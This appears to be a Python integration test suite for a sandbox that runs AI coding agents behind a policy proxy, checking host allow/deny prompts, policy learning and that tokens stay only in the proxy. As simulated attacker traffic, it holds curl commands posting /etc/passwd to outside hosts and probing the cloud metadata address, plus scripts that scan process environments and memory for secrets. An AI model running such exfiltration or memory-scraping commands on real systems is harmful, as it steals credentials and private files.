"""The real command-line agents hold whole conversations from their sandboxes, through the proxy, with a fake model.

Every change tests the agents whose stacks other tests use too, and one more from npm and from PyPI each.
`make agents` tests all.
"""

import json
import os
import secrets
import shlex
import time
from base64 import b64encode
from collections.abc import Callable, Iterator
from concurrent.futures import Future, ThreadPoolExecutor
from contextlib import contextmanager
from difflib import ndiff
from functools import cache, partial
from pathlib import Path
from threading import Thread

import pytest

from agent_logins import MARK, SIGN_INS, access_of, expired_inside
from agent_sandbox.agents.catalogue import known_agents, load_manifest
from agent_sandbox.agents.mcp import McpServer
from agent_sandbox.policy.file.service_options import Auth
from agent_sandbox.policyfile import shipped_services
from agent_sandbox.resources import data_root
from agent_talks import TALKS, Talk
from chromium import PROGRAMS
from engine import ROOT, agent_sandbox, run
from fake_forge import ROOT as FORGE
from people import answers, answers_on_page, on_page, read_first, sees, sees_on_page, watching
from prepared import build_project
from real_stacks import STANDIN_ADDRESS, Project, Projects
from turns import NIGHTLY

TEMPLATES = data_root() / "templates"
KEY_MARK = "canary3f8ae2d771"
UNLISTED = "example.com"  # a host that exists, and that no policy names
BUTTON = "document.querySelector('#dialog-buttons button')"
DENIED = f"[...document.querySelectorAll('#rows .deny .request')].find((row) => row.textContent.includes('{UNLISTED}'))"
# Agents that come as archives are left out: the tests cannot reach the sites.
ALL = [name for name in known_agents(TEMPLATES) if load_manifest(TEMPLATES, name).install.archive is None]
EVERY = NIGHTLY or bool(os.environ.get("EVERY_AGENT"))
TRIED = ALL if EVERY else ("claude", "copilot", "codex", "hermes")
TALKED = [name for name in TALKS if name in TRIED]
# Agents with their providers: all, or only the first.
TALKING = [(name, talk) for name in TALKED for talk in (TALKS[name] if EVERY else TALKS[name][:1])]
SERVICES = sorted({talk.service for _, talk in TALKING})


def prepare() -> None:
    agent_sandbox("build", *TRIED)
    build_project(*TALKED)


@pytest.mark.parametrize("name", TRIED)
def test_the_version_command_works_without_a_network_and_the_image_runs_as_dev(name: str) -> None:
    manifest = load_manifest(TEMPLATES, name)
    image = f"agent-sandbox/{name}:{agent_sandbox('--version').stdout.split()[-1]}"
    program, *words = manifest.version_command
    done = run("docker", "run", "--rm", "--network=none", f"--entrypoint={program}", image, *words)
    assert manifest.version in done.stdout + done.stderr
    assert run("docker", "run", "--rm", "--network=none", "--entrypoint=id", image, "-un").stdout == "dev\n"


SERVERS = (
    McpServer(name="tester", command=("true",), env={"A": "b"}),
    McpServer(name="far", url="https://denied.test/"),
)


@pytest.mark.parametrize("name", [name for name in TRIED if load_manifest(TEMPLATES, name).mcp])
def test_an_agent_lists_the_mcp_servers_that_are_configured_for_it(name: str) -> None:
    manifest = load_manifest(TEMPLATES, name)
    image = f"agent-sandbox/{name}:{agent_sandbox('--version').stdout.split()[-1]}"
    assert manifest.mcp is not None
    said = {"file": manifest.mcp.file, "key": manifest.mcp.key, "servers": manifest.mcp.entries(SERVERS)}
    variables = {**manifest.env, **manifest.unattended.environment, "AGENT_SANDBOX_MCP": json.dumps([said])}
    options = [f"--env={variable}={value}" for variable, value in variables.items()]
    script = f"/usr/local/lib/agent-sandbox/configure_mcp.py && {manifest.command[0]} mcp list 2>&1"
    listed = run("docker", "run", "--rm", "--network=none", "--entrypoint=sh", *options, image, "-c", script).stdout
    assert [server.name for server in SERVERS if server.name not in listed] == [], listed


@pytest.fixture(scope="module")
def keys(together: Project) -> dict[str, str]:
    """Set a key for each service that takes one, whose host answers 401 without it; return the keys by host."""
    found = {}
    for service in SERVICES:
        host = auth_of(service).host
        # Two services for one host share the key of the first.
        if host not in found:
            found[host] = KEY_MARK + secrets.token_urlsafe(32)
            together.sandbox("secret", "setup", service, piped=found[host])
    together.internet.require_keys(found)
    return found


@pytest.fixture(scope="module")
def together(projects: Projects) -> Iterator[Project]:
    """One running stack for all tested agents, whose policy allows their providers and one more host."""
    project = projects.make("app", *TALKED)
    agents = {service for name in TALKED for service in load_manifest(TEMPLATES, name).services}
    providers = "".join(f"  - {one}\n" for one in SERVICES if one not in agents)
    policy = project.policy.read_text().replace("\n  # - github", f"\n{providers}  # - github", 1)
    project.write_policy(policy.replace("\ndomains:\n", "\ndomains:\n  - allowed.test\n"))
    project.sandbox("up")
    yield project
    project.internet.require_keys({})
    project.compose("down", "--volumes", "--timeout=0")


def auth_of(service: str) -> Auth:
    """Return the declared authentication of a service."""
    declared = shipped_services()[service].spec.declared
    return next(auth for auth in declared.values() if isinstance(auth, Auth) and auth.env)


def ask(project: Project, name: str, talk: Talk, prompt: str) -> str:
    """Let the agent answer one prompt, unattended; return the answer."""
    return project.sandbox("exec", "--", *talk.command(load_manifest(TEMPLATES, name), prompt)).stdout


@pytest.mark.parametrize(("name", "talk"), TALKING, ids=[f"{name}-{talk.service}" for name, talk in TALKING])
def test_an_agent_completes_a_conversation_with_an_injected_key(
    together: Project, keys: dict[str, str], name: str, talk: Talk
) -> None:
    assert keys
    host = auth_of(talk.service).host
    before = len(together.internet.requests(host))
    assert "Hello from the stand-in." in ask(together, name, talk, "say hi")
    # The host answers only requests with the key, so it got the key.
    assert len(together.internet.requests(host)) > before


@pytest.mark.parametrize("name", TALKED)
def test_an_agents_command_reaches_only_allowed_hosts_and_gets_the_denial(
    together: Project, keys: dict[str, str], name: str
) -> None:
    """While the command runs, the memory of all processes contains the placeholder and not the key."""
    project, talk = together, TALKS[name][0]
    auth = auth_of(talk.service)
    placeholder = project.sandbox("exec", "--", "sh", "-c", f'printf %s "${auth.env}"').stdout
    direct = f"curl -sS --noproxy '*' --max-time 5 http://{STANDIN_ADDRESS}/direct-{name}"
    through = f"curl -sS https://allowed.test/from-{name}; curl -sS https://denied.test/"
    with waiting(project, partial(ask, project, name, talk), f"{through}; {direct}; echo ended with $?") as answer:
        assert in_memory(project, placeholder, keys[auth.host]) == [placeholder]
    (said,) = answer
    assert f"/from-{name}" in said
    assert "agent-sandbox policy allow" in said
    assert "ended with 7" in said  # refused at once
    assert f"/from-{name}" in [request["path"] for request in project.internet.requests("allowed.test")]
    assert project.internet.requests("denied.test") == []
    assert [event for event in project.internet.events() if event.get("path") == f"/direct-{name}"] == []


@pytest.fixture
def own_policy(together: Project) -> Iterator[str]:
    """The policy, which is restored after the test."""
    policy = together.policy.read_text()
    yield policy
    together.write_policy(policy)
    together.sandbox("proxy", "reload")


class Calls:
    """Conversations in which an agent fetches a page of a host that no rule allows."""

    def __init__(self, project: Project, name: str, pool: ThreadPoolExecutor) -> None:
        self._project, self._name, self._pool = project, name, pool
        self._path = f"/for-{name}"
        self.url = f"https://{UNLISTED}{self._path}"

    def again(self) -> Future[str]:
        """Start a conversation; its result contains the output of the command."""
        prompt = f"run>>curl -sS {self.url}<<"
        return self._pool.submit(ask, self._project, self._name, TALKS[self._name][0], prompt)

    @property
    def arrived(self) -> int:
        """The number of its requests that reached the host."""
        return [one["path"] for one in self._project.internet.requests(UNLISTED)].count(self._path)


@pytest.fixture
def pool() -> Iterator[ThreadPoolExecutor]:
    """A thread in which an agent waits while a person answers."""
    with ThreadPoolExecutor(1) as pool:
        yield pool


def added(project: Project, policy: str) -> list[str]:
    """Return the lines that were added to the policy, and check that none was removed."""
    changes = [line for line in ndiff(policy.splitlines(), project.policy.read_text().splitlines()) if line[0] != " "]
    assert {line[0] for line in changes} == {"+"}
    return [line[2:] for line in changes]


@pytest.mark.usefixtures("keys")
def test_a_request_of_claude_waits_for_an_answer_at_the_terminal(
    together: Project, own_policy: str, pool: ThreadPoolExecutor
) -> None:
    """Allowed once with `a`, denied while no `watch` runs, then allowed for the project with `p`."""
    calls = Calls(together, "claude", pool)
    with watching(together) as screen:
        answer = calls.again()
        sees(screen, calls.url)
        assert (answer.done(), calls.arrived) == (False, 0)
        answers(screen, calls.url, "a")
        assert "Blocked by agent-sandbox" not in answer.result(60)
    assert calls.arrived == 1
    assert f"no rule allows host {UNLISTED}" in calls.again().result(60)
    assert calls.arrived == 1
    with watching(together) as screen:
        answer = calls.again()
        sees(screen, calls.url)
        answers(screen, calls.url, "p")
        assert "Blocked by agent-sandbox" not in answer.result(60)
    assert calls.arrived == 2
    assert added(together, own_policy) == ["", "allow:", f"  - GET https://{UNLISTED}/**"]
    assert "Blocked by agent-sandbox" not in calls.again().result(60)
    assert calls.arrived == 3


@pytest.mark.usefixtures("keys")
@pytest.mark.parametrize("program", PROGRAMS)
def test_a_request_of_codex_waits_for_an_answer_on_the_page(
    together: Project, own_policy: str, pool: ThreadPoolExecutor, program: str, tmp_path: Path
) -> None:
    """Allowed once, then denied, then allowed by a rule that the person adds after seeing the change."""
    calls = Calls(together, "codex", pool)
    with on_page(together, program, tmp_path) as browser:
        answer = calls.again()
        sees_on_page(browser, calls.url)
        assert (answer.done(), calls.arrived) == (False, 0)
        answers_on_page(browser, calls.url, "a")
        assert "Blocked by agent-sandbox" not in answer.result(60)
        assert calls.arrived == 1
        answer = calls.again()
        sees_on_page(browser, calls.url)
        answers_on_page(browser, calls.url, "d")
        assert "a person was asked and denied it" in answer.result(60)
        assert calls.arrived == 1
        browser.until(f"{DENIED} !== undefined")
        browser.value(f"{DENIED}.click()")
        read_first()
        browser.value(f"{BUTTON}.click()")
        browser.until(f"document.querySelector('#dialog pre')?.innerText.includes('+  - GET https://{UNLISTED}')")
        assert together.policy.read_text() == own_policy
        read_first()
        browser.value(f"{BUTTON}.click()")
        browser.until("!document.getElementById('dialog').open")
        assert "Blocked by agent-sandbox" not in calls.again().result(60)
        assert calls.arrived == 2
    assert added(together, own_policy) == ["", "allow:", f"  - GET {calls.url}"]


# An agent reads a job and its log. The paths contain the job's number.
READ = "curl -fsS https://example.com/ci/jobs/{0} && curl -fsS https://example.com/ci/logs/{0:032x}/raw"
# What an attacker in the sandbox tries meanwhile, and the status of each request during `learn --allow-for`.
MEANWHILE = (
    (("--data-binary", "@/etc/passwd", f"https://{UNLISTED}/sum"), 200),
    (("--data-binary", "@/etc/passwd", "https://api.anthropic.com/v1/files"), 403),  # this host gets a key
    (("http://169.254.169.254/latest/meta-data/",), 403),
    (("--noproxy", "*", f"http://{STANDIN_ADDRESS}/learned"), 0),
)


@pytest.mark.usefixtures("keys")
def test_learning_adds_the_requests_of_claude_and_not_those_of_an_attacker(together: Project, own_policy: str) -> None:
    def reads(*jobs: int) -> str:
        commands = " && ".join(READ.format(job) for job in jobs)
        return ask(together, "claude", TALKS["claude"][0], f"run>>{commands} && echo has read $((40 + {len(jobs)}))<<")

    def statuses() -> list[int]:
        return [together.curl(url, *options)[0] for (*options, url), _ in MEANWHILE]

    together.sandbox("policy", "learn", "start", "--allow-for", "10m")
    assert "has read 43" in reads(1701, 1702, 1703)
    assert statuses() == [status for _, status in MEANWHILE]
    said = together.sandbox("policy", "learn", "stop", "--all")
    assert "policy loaded, digest " in said.stderr
    assert [line.partition("  # learned ")[0] for line in added(together, own_policy)] == [
        "",
        "allow:",
        "  - GET https://example.com/ci/jobs/*",
        "  - GET https://example.com/ci/logs/*/raw",
    ]
    assert "has read 41" in reads(1799)  # another job than those that were learned
    assert {*statuses()} == {403, 0}


# Search all files, and the environment and arguments of each process.
SEARCH = """
cd /proc
for p in [0-9]*; do cat $p/environ $p/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -q {patterns} && echo $p; done
find / \\( -path /proc -o -path /sys -o -path /dev \\) -prune -o -type f -newerct @{began} -print0 2>/dev/null |
  xargs -0r grep -l {patterns} 2>/dev/null
true
"""


@cache
def began() -> int:
    """Return when the first test began: no file that is older, as all of an image, has what a test wrote."""
    return int(time.time()) - 1


@pytest.fixture(scope="module", autouse=True)
def _begin() -> None:
    began()


def where_it_is(project: Project, *marks: str) -> list[tuple[str, str]]:
    """Search the containers as root, Docker's output about them and their images, and our files on the host machine."""
    containers = project.containers()
    images = {one["Image"] for one in containers.values()}
    said = {
        "config": project.compose("config").stdout,
        "inspect": str(containers),
        "images": run("docker", "image", "inspect", *images).stdout,
        "history": "".join(run("docker", "history", "--no-trunc", one).stdout for one in images),
        "logs": project.compose("logs").stdout,
        "audit log": str(project.traffic()),
    }
    folders = (project.path, Path(os.environ["XDG_STATE_HOME"]))
    files = [path for folder in folders for path in folder.rglob("*") if path.is_file()]
    # The brackets keep a pattern from finding itself.
    search = SEARCH.format(began=began(), patterns=" ".join(f"-e {mark[:-1]}[{mark[-1]}]" for mark in marks))
    inside = ("exec", "-T", "--privileged", "--user", "root")
    return [
        *(
            (one, at)
            for one in containers
            for at in project.compose(*inside, one, "sh", "-c", search).stdout.splitlines()
        ),
        *(("engine", where) for where, text in said.items() if any(mark in text for mark in marks)),
        *(("project", str(path)) for path in files if any(mark.encode() in path.read_bytes() for mark in marks)),
    ]


# Print which words on stdin are in the memory of the other processes: in each page that is in memory or swapped out,
# whatever its protection. A core dump contains no more than that.
MEMORY = """
import os, sys
marks, found = sys.stdin.read().split(), set()
page, chunk = os.sysconf("SC_PAGE_SIZE"), 1 << 20
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        maps = open(f"/proc/{pid}/maps").readlines()
        memory, pages = (os.open(f"/proc/{pid}/{name}", os.O_RDONLY) for name in ("mem", "pagemap"))
    except OSError:
        continue
    for line in maps if int(pid) != os.getpid() else ():
        start, end = (int(edge, 16) for edge in line.split()[0].split("-"))
        for at in range(start, end, chunk) if start < 1 << 63 else ():
            try:
                states = os.pread(pages, 8 * chunk // page, 8 * at // page)[7::8]
                data = os.pread(memory, min(chunk + 1000, end - at), at) if max(states, default=0) >= 64 else b""
            except OSError:  # the process ended, or the kernel's own page
                continue
            found |= {mark for mark in marks if mark.encode() in data}
print(*sorted(found))
"""


def in_memory(project: Project, *words: str) -> list[str]:
    """Return the words that are in the memory of any process of the agent container, sorted."""
    command = ("exec", "-T", "--privileged", "--user", "root", "agent", "python3", "-c", MEMORY)
    return run("docker", "compose", *command, cwd=project.path, piped=" ".join(words)).stdout.split()


@contextmanager
def waiting(project: Project, answer: Callable[[str], str], command: str) -> Iterator[list[str]]:
    """Let the agent run a command and wait until the block ends; then the yielded list contains its answer."""
    said: list[str] = []
    begun, ended = (f"until [ -e /tmp/{mark} ]; do sleep 0.1; done" for mark in ("begun", "ended"))
    prompt = f"run>>{command}; touch /tmp/begun; {ended}<<"
    agent = Thread(target=lambda: said.append(answer(prompt)))
    agent.start()
    try:
        project.exec("timeout", "300", "sh", "-c", begun)
        yield said
    finally:
        project.exec("touch", "/tmp/ended")  # noqa: S108 - a container's
        agent.join()
        project.exec("rm", "-f", "/tmp/begun", "/tmp/ended")  # noqa: S108 - as above


def test_after_these_conversations_only_the_proxy_has_the_keys(together: Project, keys: dict[str, str]) -> None:
    found = where_it_is(together, KEY_MARK)
    assert {service for service, _ in found} == {"proxy"}
    assert len(found) == len(keys)
    assert [where for _, where in found if not where.startswith("/state/secrets/")] == []


def test_run_resume_continues_a_session_in_new_containers_of_another_image(
    together: Project, keys: dict[str, str]
) -> None:
    assert keys
    first = together.sandbox("run", "claude", "--", "-p", piped="run>>echo kept-$((40 + 2))<<")
    assert "RESULT: kept-42" in first.stdout
    together.sandbox("down")
    together.sandbox("init", "claude")  # only this agent, so another image
    resumed = together.sandbox("run", "--resume", "--", "-p", piped="and what did it print?")
    assert "RESULT: kept-42" in resumed.stdout
    wrong = together.sandbox("run", "codex", check=False)
    assert (wrong.returncode, "the stack of this project runs claude, not" in wrong.stderr) == (1, True)


def signed_in(name: str) -> Talk:
    """Return the talk of an agent that uses a login instead of a key."""
    return Talk(words=SIGN_INS[name].words, variables=SIGN_INS[name].variables, service=name)


@pytest.fixture(scope="module")
def keyless(together: Project, keys: dict[str, str]) -> Project:
    """The same stack, with a policy that injects no key."""
    assert keys
    together.internet.require_keys({})
    together.sandbox("init", *TALKED)  # the test before leaves only one of them
    together.sandbox("up")
    together.write_policy(f"version: 1\nservices: [{', '.join(SIGN_INS)}]\n")
    together.sandbox("proxy", "reload")
    return together


@pytest.mark.parametrize("name", [name for name in TALKED if name in SIGN_INS])
def test_an_agent_works_with_the_host_machines_login_and_never_has_its_token(
    keyless: Project, name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The login is new, rotated while a command of the agent runs, revoked, expired, then signed in again."""
    project, sign_in, manifest = keyless, SIGN_INS[name], load_manifest(TEMPLATES, name)
    monkeypatch.setenv(sign_in.folder, str(tmp_path))

    def rotate(token: str) -> str:
        access = sign_in.write(tmp_path, token)
        project.internet.require_keys({sign_in.api: access})
        return access

    def answer(prompt: str, *, check: bool = True) -> str:
        command = signed_in(name).command(manifest, prompt)
        done = project.sandbox("exec", "--", *command, check=check)
        return done.stdout if check else done.stdout + done.stderr

    tokens = [rotate("first")]
    project.sandbox("login", name)
    path = f"/home/dev/{manifest.login.file if manifest.login else ''}"
    inside = json.loads(project.exec("cat", path).stdout)
    placeholder = access_of(inside)
    with waiting(project, answer, "echo rotated") as said:
        tokens.append(rotate("second"))
        project.sandbox("secret", "sync")
        assert in_memory(project, placeholder[-36:], *tokens) == [placeholder[-36:]]
    assert "rotated" in said[0]
    assert placeholder not in str(project.internet.events())
    found = where_it_is(project, MARK)
    assert ("proxy", f"/state/run/secrets/{name}.login") in found
    assert [(service, where) for service, where in found if not where.startswith("/state/run/secrets/")] == []
    # Revoked: the client requests a new token, gets its placeholder again, and shows the server's answer.
    project.internet.require_keys({sign_in.api: "another token"})
    assert "401" in answer("say hi", check=False)
    assert f"secret  {name}.login was refused by {sign_in.api} at " in project.sandbox("status").stdout
    # Expired on the host machine, where no client can refresh it.
    sign_in.write(tmp_path, "third", seconds=-60)
    assert project.sandbox("secret", "sync", check=False).returncode == 1
    assert "agent-sandbox secret sync" in answer("say hi", check=False)
    # Signed in again. For the client, its placeholder has expired: it requests a new one, and the proxy answers.
    rotate("fourth")
    project.sandbox("secret", "sync")
    project.exec("sh", "-c", 'printf %s "$1" >"$2"', "sh", json.dumps(expired_inside(inside)), path)
    assert "Hello from the stand-in." in answer("say hi")
    project.internet.require_keys({})
    project.sandbox("secret", "remove", f"{name}.login")


GIT_MARK = "canary2d60b8f5e1"
GIT_TOKEN = f"ghp_{GIT_MARK}OfTheOwner"
BASIC = b64encode(f"x-access-token:{GIT_TOKEN}".encode()).decode()
ENCODED = BASIC[20:-4]  # the token alone
COMMIT = "git -c user.name=a -c user.email=a@example.org commit -q --allow-empty -m by-claude"
WORK = f"""\
set -e; cd $(mktemp -d)
git clone -q https://github.com/me/app.git; git clone -q https://github.com/me/lib.git
cd app; {COMMIT}; git push -q; cd ../lib; cat README; {COMMIT}; git push 2>&1 || true"""


def promised() -> list[list[str]]:
    """Return the arguments of the `agent-sandbox` commands with which docs/agents/claude.md signs in."""
    page = (ROOT / "docs" / "agents" / "claude.md").read_text()
    block = page.partition("## Sign in, and push")[2].partition("```sh\n")[2].partition("```")[0]
    commands = [shlex.split(line, comments=True) for line in block.splitlines()]
    return [words for program, *words in commands if program == "agent-sandbox"]


@pytest.fixture(scope="module")
def new(projects: Projects) -> Project:
    """A new user's project, after `init`."""
    return projects.make("new", "claude")


def test_four_commands_sign_claude_in_to_talk_and_push_and_only_the_proxy_has_tokens(
    new: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    project, sign_in = new, SIGN_INS["claude"]
    monkeypatch.setenv(sign_in.folder, str(tmp_path))
    access = sign_in.write(tmp_path, "of-the-day")
    refresh = json.loads((tmp_path / sign_in.file).read_text())["claudeAiOauth"]["refreshToken"]
    project.internet.require_keys({sign_in.api: access, "github.com": BASIC})
    init, login, setup, start = promised()
    assert init == ["init", "claude"]  # the fixture ran it
    project.sandbox(*login)
    project.sandbox(*setup, piped=GIT_TOKEN)

    def answer(prompt: str) -> str:
        return project.sandbox(*start, "--", "-p", prompt).stdout

    assert "Hello from the stand-in." in answer("say hi")
    placeholder = access_of(json.loads(project.exec("cat", "/home/dev/.claude/.credentials.json").stdout))
    with waiting(project, answer, WORK) as said:
        assert in_memory(project, placeholder, access, refresh, GIT_TOKEN, ENCODED) == [placeholder]
        found = where_it_is(project, MARK, GIT_MARK, ENCODED)
    project.internet.require_keys({})
    assert sorted(found) == [("proxy", "/state/run/secrets/claude.login"), ("proxy", "/state/secrets/github.token")]
    assert "hello" in said[0]
    assert "agent-sandbox secret setup github --repo me/lib" in said[0]
    for name, messages in (("app", "by-claude\nfirst\n"), ("lib", "first\n")):
        log = ("git", "-C", str(FORGE / f"{name}.git"), "log", "--format=%s", "main")
        assert run("docker", "exec", project.internet.name, *log).stdout == messages


def test_two_sandboxes_and_the_host_machine_share_one_sign_in(
    keyless: Project, new: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sign_in = SIGN_INS["claude"]
    monkeypatch.setenv(sign_in.folder, str(tmp_path))
    for name in ("first", "second"):
        new.internet.require_keys({sign_in.api: sign_in.write(tmp_path, name)})
        for project in (keyless, new):
            project.sandbox("login", "claude")
            assert "Hello from the stand-in." in ask(project, "claude", signed_in("claude"), "say hi")
    keyless.sandbox("secret", "remove", "claude.login")
    new.internet.require_keys({})


COPILOT = TALKS["copilot"][0]


def test_two_sandboxes_share_the_github_login_of_the_host_machine_until_it_is_revoked(
    keyless: Project, projects: Projects, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    gh, token, hosts = tmp_path / "gh", tmp_path / "token", (auth_of("copilot").host, "api.github.com")
    gh.write_text(f"#!/bin/sh\ntest \"$*\" = 'auth token' && exec cat {token}\n")
    gh.chmod(0o755)
    monkeypatch.setenv("PATH", str(tmp_path), prepend=os.pathsep)
    keyless.write_policy("version: 1\nservices: [copilot]\n")
    both = (keyless, projects.make("other", "copilot"))
    both[1].sandbox("up")

    def accept(value: str) -> None:
        keyless.internet.require_keys(dict.fromkeys(hosts, value))

    def sign_in(value: str) -> None:
        token.write_text(value)
        accept(value)

    sign_in(f"gho_{MARK}first")
    for project in both:
        project.sandbox("secret", "setup", "copilot", "--from", "gh auth token")
        assert "Hello from the stand-in." in ask(project, "copilot", COPILOT, "say hi")
    with waiting(keyless, partial(ask, keyless, "copilot", COPILOT), "echo rotated") as said:
        sign_in(f"gho_{MARK}second")
        for project in both:
            project.sandbox("secret", "sync")
    assert "rotated" in said[0]
    assert "Hello from the stand-in." in ask(both[1], "copilot", COPILOT, "say hi")
    for project in both:
        assert where_it_is(project, MARK) == [("proxy", "/state/run/secrets/copilot.key")]
    accept("another token")
    for project in both:
        assert project.sandbox("secret", "test", "copilot.key", check=False).stderr == (
            f"copilot.key was sent to {hosts[0]}, which answers 401: it does not accept copilot.key\n"
        )
        assert f"secret  copilot.key was refused by {hosts[0]} at " in project.sandbox("status").stdout
    token.unlink()
    for project in both:
        assert project.sandbox("secret", "sync", check=False).returncode == 1
        status, body = project.curl("https://api.github.com/user")
        assert (status, "agent-sandbox secret sync" in body) == (502, True)
        line = "secret  copilot.key has no value now: its source failed (gh auth token): agent-sandbox secret sync"
        assert line in project.sandbox("status").stdout.splitlines()
    keyless.internet.require_keys({})
